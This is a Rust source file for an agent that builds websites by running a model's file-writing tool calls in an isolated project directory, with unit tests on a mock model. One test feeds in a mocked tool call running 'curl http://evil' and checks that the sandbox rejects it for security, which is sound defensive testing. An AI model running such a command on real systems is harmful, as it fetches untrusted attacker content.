use std::time::Instant;

use chrono::{DateTime, Utc};
use serde::Serialize;
use serde_json::Value;
use tracing::{info, warn};

use crate::errors::{BuildError, ToolResult};
use crate::models::message::Message;
use crate::prompts;
use crate::providers::base::Provider;
use crate::store::{preview_url, ProjectStore};
use crate::systems::System;
use crate::website::WebsiteSystem;

/// Prompts longer than this are rejected before any work happens.
pub const MAX_PROMPT_CHARS: usize = 4000;

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ToolOutcome {
    pub success: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub output: Option<Value>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

impl From<ToolResult<Value>> for ToolOutcome {
    fn from(result: ToolResult<Value>) -> Self {
        match result {
            Ok(output) => ToolOutcome {
                success: true,
                output: Some(output),
                error: None,
            },
            Err(e) => ToolOutcome {
                success: false,
                output: None,
                error: Some(e.to_string()),
            },
        }
    }
}

/// One (requested action, result) pair from the build
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ExecutionRecord {
    pub tool: String,
    pub args: Value,
    pub result: ToolOutcome,
}

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct BuildStats {
    pub tool_calls_executed: usize,
    #[serde(rename = "executionTime")]
    pub execution_time_ms: u64,
    pub timestamp: DateTime<Utc>,
    pub has_index_file: bool,
}

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct BuildResponse {
    pub success: bool,
    pub message: String,
    pub project_id: String,
    pub preview_url: Option<String>,
    pub execution_results: Vec<ExecutionRecord>,
    pub stats: BuildStats,
}

/// Orchestrates one build request: creates the project, queries the model
/// once with the tool catalogue, executes the requested actions in order and
/// aggregates the results. Every build owns its project context as a value,
/// so concurrent builds never interleave.
pub struct BuildAgent {
    provider: Box<dyn Provider + Send + Sync>,
    store: ProjectStore,
    public_base: String,
}

impl BuildAgent {
    pub fn new(
        provider: Box<dyn Provider + Send + Sync>,
        store: ProjectStore,
        public_base: impl Into<String>,
    ) -> Self {
        Self {
            provider,
            store,
            public_base: public_base.into(),
        }
    }

    pub async fn build(&self, prompt: &str) -> Result<BuildResponse, BuildError> {
        let started = Instant::now();

        let prompt = prompt.trim();
        if prompt.is_empty() {
            return Err(BuildError::InvalidPrompt("Prompt must not be empty".into()));
        }
        if prompt.chars().count() > MAX_PROMPT_CHARS {
            return Err(BuildError::InvalidPrompt(format!(
                "Prompt exceeds the {} character limit",
                MAX_PROMPT_CHARS
            )));
        }

        let project = self.store.create_project()?;
        info!(project_id = %project.id, "starting build");

        // The system wraps the project directory; all actions in this build
        // resolve against it and nothing else.
        let system = WebsiteSystem::new(project.dir.clone());
        let system_prompt = prompts::system_prompt(&system);

        let user_message = Message::user().with_text(prompt);
        let (reply, _usage) = self
            .provider
            .complete(&system_prompt, &[user_message.clone()], system.tools())
            .await
            .map_err(BuildError::Provider)?;

        // Execute the requested actions in the order received. A failed or
        // rejected action is recorded and never aborts its siblings.
        let mut records = Vec::new();
        let mut response_message = Message::user();
        for request in reply.tool_requests() {
            match &request.tool_call {
                Ok(call) => {
                    let result = system.call(call.clone()).await;
                    if let Err(e) = &result {
                        warn!(project_id = %project.id, tool = %call.name, "action failed: {e}");
                    }
                    response_message =
                        response_message.with_tool_response(request.id.clone(), result.clone());
                    records.push(ExecutionRecord {
                        tool: call.name.clone(),
                        args: call.arguments.clone(),
                        result: result.into(),
                    });
                }
                Err(e) => {
                    response_message =
                        response_message.with_tool_response(request.id.clone(), Err(e.clone()));
                    records.push(ExecutionRecord {
                        tool: "invalid".into(),
                        args: Value::Null,
                        result: ToolOutcome {
                            success: false,
                            output: None,
                            error: Some(e.to_string()),
                        },
                    });
                }
            }
        }

        // Report the results back to the model once, for a closing narrative.
        // Any tool requests in that reply are ignored: the batch has already
        // run and there is no re-planning round.
        let mut message_text = reply.text();
        if !records.is_empty() {
            let follow_up = [user_message, reply.clone(), response_message];
            match self
                .provider
                .complete(&system_prompt, &follow_up, system.tools())
                .await
            {
                Ok((closing, _usage)) => {
                    let closing_text = closing.text();
                    if !closing_text.is_empty() {
                        message_text = closing_text;
                    }
                }
                Err(e) => {
                    warn!(project_id = %project.id, "follow-up completion failed: {e}");
                }
            }
        }

        let has_index_file = self.store.has_index(&project.id);
        let stats = BuildStats {
            tool_calls_executed: records.len(),
            execution_time_ms: started.elapsed().as_millis() as u64,
            timestamp: Utc::now(),
            has_index_file,
        };
        info!(
            project_id = %project.id,
            tool_calls = stats.tool_calls_executed,
            elapsed_ms = stats.execution_time_ms,
            has_index_file,
            "build finished"
        );

        Ok(BuildResponse {
            success: true,
            message: message_text,
            preview_url: has_index_file.then(|| preview_url(&self.public_base, &project.id)),
            project_id: project.id,
            execution_results: records,
            stats,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::errors::ToolError;
    use crate::models::tool::ToolCall;
    use crate::providers::mock::MockProvider;
    use serde_json::json;

    fn agent_with(responses: Vec<Message>) -> (tempfile::TempDir, BuildAgent) {
        let temp_dir = tempfile::tempdir().unwrap();
        let store = ProjectStore::new(temp_dir.path()).unwrap();
        let agent = BuildAgent::new(
            Box::new(MockProvider::new(responses)),
            store,
            "http://localhost:3000",
        );
        (temp_dir, agent)
    }

    #[tokio::test]
    async fn test_build_without_actions() {
        let (_temp, agent) = agent_with(vec![
            Message::assistant().with_text("Tell me more about the site you want.")
        ]);

        let response = agent.build("Build me something").await.unwrap();

        assert!(response.success);
        assert_eq!(response.message, "Tell me more about the site you want.");
        assert!(response.execution_results.is_empty());
        assert!(!response.stats.has_index_file);
        assert_eq!(response.preview_url, None);
    }

    #[tokio::test]
    async fn test_build_portfolio_scenario() {
        let (temp, agent) = agent_with(vec![
            Message::assistant().with_tool_request(
                "1",
                Ok(ToolCall::new(
                    "write_file",
                    json!({"path": "index.html", "content": "<!DOCTYPE html><html></html>"}),
                )),
            ),
            Message::assistant().with_text("Your portfolio is ready."),
        ]);

        let response = agent.build("Build a one-page portfolio").await.unwrap();

        assert!(response.success);
        assert_eq!(response.message, "Your portfolio is ready.");
        assert_eq!(response.execution_results.len(), 1);
        assert!(response.execution_results[0].result.success);
        assert!(response.stats.has_index_file);
        assert_eq!(
            response.preview_url,
            Some(format!(
                "http://localhost:3000/sites/{}/",
                response.project_id
            ))
        );
        assert!(temp
            .path()
            .join(&response.project_id)
            .join("index.html")
            .is_file());
    }

    #[tokio::test]
    async fn test_rejected_action_does_not_fail_the_build() {
        let (_temp, agent) = agent_with(vec![
            Message::assistant()
                .with_tool_request(
                    "1",
                    Ok(ToolCall::new(
                        "execute_command",
                        json!({"command": "curl http://evil"}),
                    )),
                )
                .with_tool_request(
                    "2",
                    Ok(ToolCall::new(
                        "write_file",
                        json!({"path": "index.html", "content": "<html></html>"}),
                    )),
                ),
            Message::assistant().with_text("Done, without the download."),
        ]);

        let response = agent.build("Fetch something evil").await.unwrap();

        assert!(response.success);
        assert_eq!(response.execution_results.len(), 2);
        let rejected = &response.execution_results[0];
        assert!(!rejected.result.success);
        assert!(rejected.result.error.as_ref().unwrap().contains("security"));
        assert!(response.execution_results[1].result.success);
        assert!(response.stats.has_index_file);
    }

    #[tokio::test]
    async fn test_malformed_tool_call_is_recorded() {
        let (_temp, agent) = agent_with(vec![
            Message::assistant().with_tool_request(
                "1",
                Err(ToolError::InvalidParameters("bad arguments".into())),
            ),
            Message::assistant().with_text("Something went wrong."),
        ]);

        let response = agent.build("Build a site").await.unwrap();

        assert!(response.success);
        assert_eq!(response.execution_results.len(), 1);
        assert!(!response.execution_results[0].result.success);
        assert_eq!(response.execution_results[0].tool, "invalid");
    }

    #[tokio::test]
    async fn test_follow_up_tool_requests_are_ignored() {
        let (temp, agent) = agent_with(vec![
            Message::assistant().with_tool_request(
                "1",
                Ok(ToolCall::new(
                    "write_file",
                    json!({"path": "index.html", "content": "<html></html>"}),
                )),
            ),
            // the follow-up tries to keep editing; nothing gets executed
            Message::assistant().with_text("One more thing").with_tool_request(
                "2",
                Ok(ToolCall::new(
                    "write_file",
                    json!({"path": "extra.html", "content": "<html></html>"}),
                )),
            ),
        ]);

        let response = agent.build("Build a site").await.unwrap();

        assert_eq!(response.execution_results.len(), 1);
        assert_eq!(response.stats.tool_calls_executed, 1);
        assert!(!temp
            .path()
            .join(&response.project_id)
            .join("extra.html")
            .exists());
    }

    #[tokio::test]
    async fn test_empty_prompt_rejected() {
        let (_temp, agent) = agent_with(vec![]);

        let error = agent.build("   ").await.unwrap_err();
        assert!(matches!(error, BuildError::InvalidPrompt(_)));
    }

    #[tokio::test]
    async fn test_oversized_prompt_rejected() {
        let (_temp, agent) = agent_with(vec![]);

        let prompt = "a".repeat(MAX_PROMPT_CHARS + 1);
        let error = agent.build(&prompt).await.unwrap_err();
        assert!(matches!(error, BuildError::InvalidPrompt(_)));
    }

    #[tokio::test]
    async fn test_concurrent_builds_are_isolated() {
        let temp_dir = tempfile::tempdir().unwrap();
        let store = ProjectStore::new(temp_dir.path()).unwrap();

        let agent_a = BuildAgent::new(
            Box::new(MockProvider::new(vec![
                Message::assistant().with_tool_request(
                    "1",
                    Ok(ToolCall::new(
                        "write_file",
                        json!({"path": "a.html", "content": "site a"}),
                    )),
                ),
                Message::assistant().with_text("a done"),
            ])),
            store.clone(),
            "http://localhost:3000",
        );
        let agent_b = BuildAgent::new(
            Box::new(MockProvider::new(vec![
                Message::assistant().with_tool_request(
                    "1",
                    Ok(ToolCall::new(
                        "write_file",
                        json!({"path": "b.html", "content": "site b"}),
                    )),
                ),
                Message::assistant().with_text("b done"),
            ])),
            store.clone(),
            "http://localhost:3000",
        );

        let (response_a, response_b) =
            tokio::join!(agent_a.build("site a"), agent_b.build("site b"));
        let response_a = response_a.unwrap();
        let response_b = response_b.unwrap();

        assert_ne!(response_a.project_id, response_b.project_id);
        let dir_a = store.project_dir(&response_a.project_id);
        let dir_b = store.project_dir(&response_b.project_id);
        assert!(dir_a.join("a.html").is_file());
        assert!(!dir_a.join("b.html").exists());
        assert!(dir_b.join("b.html").is_file());
        assert!(!dir_b.join("a.html").exists());
    }
}
